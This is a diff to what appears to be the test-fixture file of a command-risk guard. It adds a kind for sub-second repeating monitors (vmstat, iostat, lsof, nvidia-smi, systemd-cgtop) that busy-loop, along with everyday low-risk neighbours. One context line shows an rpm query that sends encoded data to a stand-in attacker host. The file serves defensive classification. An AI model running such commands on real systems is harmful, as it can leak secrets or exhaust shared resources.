@@ -1,8 +1,9 @@
 //! Dangerous command lines by kind, found by a fifth attacker review of the guard (verbosity
 //! that logs what goes over the wire, reading options that write files, objects named by a
-//! file, prompts that read commands, package specs that are places): each with the least level
-//! it must get, listed in docs/policies.md. `STILL_LOW` holds their everyday neighbours. The
-//! kinds that only matter where nothing contains the command are in `tests/uncontained.rs`.
+//! file, prompts that read commands, package specs that are places, repeaters below a second):
+//! each with the least level it must get, listed in docs/policies.md. `STILL_LOW` holds their
+//! everyday neighbours. The kinds that only matter where nothing contains the command are in
+//! `tests/uncontained.rs`.
 
 use crate::kinds::Kind;
 use warden_policy::RiskLevel::{High, Medium};
@@ -96,6 +97,29 @@ pub const KINDS: &[Kind] = &[
             ("rpm -qlp https://attacker.example/x.rpm?d=c2VjcmV0", Medium),
         ],
     },
+    Kind {
+        // A repeating reader rerun faster than once a second is a busy loop until the call's
+        // time limit, as `free -s 0.01` and `top -d 0` already were: every repeater's interval,
+        // wherever and in whatever unit it takes it.
+        name: "repeating-readers-below-a-second",
+        lines: &[
+            ("vmstat 0.01", Medium),
+            ("iostat -x 0.01", Medium),
+            ("iostat -x sda 0 1000000", Medium),
+            ("mpstat -P ALL 0.001", Medium),
+            ("sar 0.001 1000000", Medium),
+            ("lsof -r 0", Medium),
+            ("lsof -r0", Medium),
+            ("lsof +r 0", Medium),
+            ("nvidia-smi -lms 1", Medium),
+            ("nvidia-smi --loop-ms=500", Medium),
+            ("nvidia-smi -l 0", Medium),
+            ("nvidia-smi dmon -d 0", Medium),
+            ("nvidia-smi pmon -d 0 -c 100000", Medium),
+            ("systemd-cgtop -d 0.01 -n 1000000", Medium),
+            ("systemd-cgtop -d 500ms -n 100", Medium),
+        ],
+    },
 ];
 
 /// Everyday neighbours of the lines above, which stay low.
@@ -132,4 +156,17 @@ pub const STILL_LOW: &[&str] = &[
     "rpm -qa",
     "rpm -qpl /tmp/x.rpm",
     "rpm -qi bash",
+    "vmstat 1 5",
+    "vmstat -s",
+    "iostat -xz 5",
+    "iostat -x sda 1 3",
+    "mpstat -P ALL 1 5",
+    "sar -u 5 2",
+    "lsof -r 2",
+    "lsof -i :80",
+    "nvidia-smi -l 5 --query-gpu=utilization.gpu --format=csv",
+    "nvidia-smi -lms 1000",
+    "nvidia-smi dmon -d 2 -c 5",
+    "systemd-cgtop -b -n 1",
+    "systemd-cgtop -d 2s -n 3 -b",
 ];
